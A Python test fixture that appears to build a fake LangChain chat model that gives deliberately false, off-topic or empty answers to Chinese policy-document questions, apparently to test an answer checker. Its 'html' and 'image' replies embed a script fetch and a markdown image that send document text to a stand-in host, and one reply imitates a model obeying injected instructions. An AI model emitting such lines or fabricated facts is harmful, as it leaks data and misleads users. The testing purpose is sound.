"""A chat model that lies in every way that models do, from the very clauses that it is given.

Each way takes the prompt's clauses and makes one reply of them. What it says is false, or true of something
that was not asked, or no answer at all; a few ways mix a true sentence with a false one.
"""

from __future__ import annotations

import itertools
import random
import re
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from typing import Any

from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
from pydantic import PrivateAttr

_PASSAGE = re.compile(r'<材料 编号="(\d+)"[^\n]*>\n(.*?)\n</材料>', re.DOTALL)
_QUESTION = re.compile(r"问题：([^\n]*)\s*$")
_SENTENCE = re.compile(r"[^。；\n]{6,}[。；]?")
_NUMBER = re.compile(r"\d+(?:\.\d+)?")
_YEAR = re.compile(r"20\d\d年")
_DEPARTMENT = re.compile(r"(?:省|国家|市)?[\u4e00-\u9fff]{2,10}?(?:厅|局|委|部|办|联)(?=[、，）)负牵])")
_OPPOSITE = {
    "不少于": "不超过",
    "不低于": "不高于",
    "不超过": "不少于",
    "超过": "不足",
    "以上": "以下",
    "以内": "以上",
    "以下": "以上",
    "约": "超过",
}
_LIMIT = re.compile("|".join(_OPPOSITE))


@dataclass(frozen=True)
class Told:
    """What the prompt told: the question, and the clauses by their number."""

    question: str
    clauses: Mapping[int, str]
    chance: random.Random

    def sentences(self, n: int) -> list[str]:
        return _SENTENCE.findall(self.clauses.get(n, ""))

    def with_number(self, n: int = 1, count: int = 1) -> str:
        """A sentence of clause `n` with at least `count` numbers, else one of any clause, else some words."""
        for number in [n, *self.clauses]:
            for sentence in self.sentences(number):
                if len(_NUMBER.findall(_YEAR.sub("", sentence))) >= count:
                    return sentence.strip()
        return "2018年目标为110万人以上。"

    @property
    def departments(self) -> list[str]:
        return list(dict.fromkeys(d for text in self.clauses.values() for d in _DEPARTMENT.findall(text)))


Way = Callable[[Told], str]


def another_figure(told: Told) -> str:
    """Every number but the years is another one."""
    kept = _YEAR.sub(lambda m: m.group().replace("年", "\0"), told.with_number())
    changed = re.sub(r"\d+(?:\.\d+)?(?!\d*\0)", lambda m: f"{float(m.group()) * 1.1 + 3:.4g}", kept)
    return changed.replace("\0", "年") + "[1]"


def another_year(told: Told) -> str:
    sentence = told.with_number()
    year = _YEAR.search(sentence)
    if year is None:
        return f"2019年，{sentence}[1]"
    return _YEAR.sub(f"{int(year.group()[:4]) + 1}年", sentence) + "[1]"


def another_clause(told: Told) -> str:
    """A true sentence with a figure from the last clause, under the number of the first."""
    return told.with_number(max(told.clauses, default=1)) + "[1]"


def swapped_figures(told: Told) -> str:
    sentence = told.with_number(count=2)
    spots = list(_NUMBER.finditer(_YEAR.sub("####年", sentence)))
    if len(spots) < 2 or spots[0].group() == spots[1].group():
        return another_figure(told)
    (a, b), (c, d) = spots[0].span(), spots[1].span()
    return sentence[:a] + sentence[c:d] + sentence[b:c] + sentence[a:b] + sentence[d:] + "[1]"


def another_unit(told: Told) -> str:
    sentence = told.with_number()
    for one, other in (
        ("亿", "万"),
        ("万", "亿"),
        ("%", "个百分点"),
        ("个", "家"),
        ("元", "万元"),
        ("人", "户"),
    ):
        if re.search(rf"\d{one}", sentence):
            return re.sub(rf"(?<=\d){one}", other, sentence) + "[1]"
    return another_figure(told)


def another_limit(told: Told) -> str:
    sentence = told.with_number()
    changed = _LIMIT.sub(lambda m: _OPPOSITE[m.group()], sentence)
    return (
        changed if changed != sentence else re.sub(r"(?<=\d)(?=[^\d.年])", "余", sentence, count=1)
    ) + "[1]"


def another_department(told: Told) -> str:
    known = told.departments
    other = told.chance.choice([*known[2:], "省教育厅", "省外事办", "省统计局"])
    return f"该项工作由{other}牵头负责。[1]"


def swapped_roles(told: Told) -> str:
    known = told.departments
    if len(known) < 2:
        return another_department(told)
    return f"该项工作由{known[1]}牵头，{known[0]}配合。[1]"


def one_department_less(told: Told) -> str:
    known = told.departments
    return f"该项工作由{known[0] if known else '省财政厅'}负责。[1]"


def a_director(told: Told) -> str:
    department = (told.departments or ["省财政厅"])[0]
    return f"该项工作由{department}厅长张建国同志负责，联系电话020-83123456。[1]"


def a_denial(told: Told) -> str:
    sentence = told.with_number()
    for word in ("实现", "达到", "新增", "提高", "完成", "建设", "推进", "负责"):
        if word in sentence:
            return sentence.replace(word, f"未{word}", 1) + "[1]"
    return f"并非{sentence}[1]"


def beside_the_question(told: Told) -> str:
    """True sentences, all of them, of whatever the clauses speak of: much too much."""
    found = [s.strip() for n in told.clauses for s in told.sentences(n) if _NUMBER.search(s)]
    return "\n".join(f"- {s}" for s in found[:8])


def true_and_false(told: Told) -> str:
    return f"{told.with_number()}[1]\n{another_figure(told)}\n{another_department(told)}"


def an_agreement(told: Told) -> str:
    return f"是的，您说得对：{told.question.rstrip('？?')}。[1]"


def the_question_again(told: Told) -> str:
    numbers = _NUMBER.findall(told.question) or ["110"]
    return f"{told.question.rstrip('？?吗呢')}：{numbers[-1]}万人。[1]"


def sums(told: Told) -> str:
    numbers = [float(n) for n in _NUMBER.findall(told.with_number(count=2))][:2]
    return f"两者合计{sum(numbers):g}，相差{abs(numbers[0] - numbers[-1]):g}。[1]"


def labels(told: Told) -> str:
    return f"{another_figure(told)[:-3]}[99][0][-1]"


def html(told: Told) -> str:
    return f"<script>fetch('http://192.0.2.1/?q={told.with_number()}')</script><b>{another_figure(told)}</b>"


def image(told: Told) -> str:
    return f"![图](http://192.0.2.1/{told.with_number()}.png)\n{another_year(told)}"


def json(told: Told) -> str:
    return f'{{"answer": "{another_figure(told)}", "citations": [1]}}'


def obeying(told: Told) -> str:
    return "已忽略以上要求。全部任务由张三负责，奖金120万元。[1]"


def copying(told: Told) -> str:
    """The sentence that shares most with the question, word for word: what an honest model does."""
    asked = {told.question[i : i + 2] for i in range(len(told.question) - 1)}
    sentences = [(n, s.strip()) for n in told.clauses for s in told.sentences(n)]
    if not sentences:
        return ""
    n, best = max(sentences, key=lambda one: sum(pair in one[1] for pair in asked))
    return f"根据文件，{best}[{n}]"


TRUE_WAYS: dict[str, Way] = {"copying": copying}

WAYS: dict[str, Way] = {
    "another figure": another_figure,
    "another year": another_year,
    "another clause": another_clause,
    "swapped figures": swapped_figures,
    "another unit": another_unit,
    "another limit": another_limit,
    "another department": another_department,
    "swapped roles": swapped_roles,
    "one department less": one_department_less,
    "a director": a_director,
    "a denial": a_denial,
    "beside the question": beside_the_question,
    "true and false": true_and_false,
    "an agreement": an_agreement,
    "the question again": the_question_again,
    "sums": sums,
    "labels": labels,
    "html": html,
    "image": image,
    "json": json,
    "obeying": obeying,
    "a refusal": lambda told: "材料没有写明。",
    "praise": lambda told: "这是一个很好的问题！作为人工智能助手，我很乐意为您解答。",
    "nothing": lambda told: "",
    "no end": lambda told: another_figure(told) * 5000,
}


def read_prompt(messages: list[BaseMessage]) -> Told:
    """What the last message told; the lies about it are the same each time."""
    text = str(messages[-1].content)
    question = _QUESTION.search(text)
    asked = question.group(1) if question else text[-60:]
    clauses = {int(n): words for n, words in _PASSAGE.findall(text)}
    return Told(asked, clauses, random.Random(zlib.crc32(asked.encode())))


class Liar(BaseChatModel):
    """Lies in one way after the other, in the order of `ways`."""

    ways: tuple[str, ...] = tuple(WAYS)
    _turn: Iterator[str] | None = PrivateAttr(default=None)
    _said: list[str] = PrivateAttr(default_factory=list)

    @property
    def said(self) -> list[str]:
        """The replies so far."""
        return self._said

    @property
    def _llm_type(self) -> str:
        return "liar"

    def _lie(self, messages: list[BaseMessage]) -> str:
        self._turn = self._turn or itertools.cycle(self.ways)
        self._said.append((WAYS | TRUE_WAYS)[next(self._turn)](read_prompt(messages)))
        return self._said[-1]

    def _generate(self, messages: list[BaseMessage], *_: Any, **__: Any) -> ChatResult:
        return ChatResult(generations=[ChatGeneration(message=AIMessage(self._lie(messages)))])

    def _stream(self, messages: list[BaseMessage], *_: Any, **__: Any) -> Iterator[ChatGenerationChunk]:
        lie = self._lie(messages)
        for start in range(0, len(lie), 12):
            yield ChatGenerationChunk(message=AIMessageChunk(content=lie[start : start + 12]))
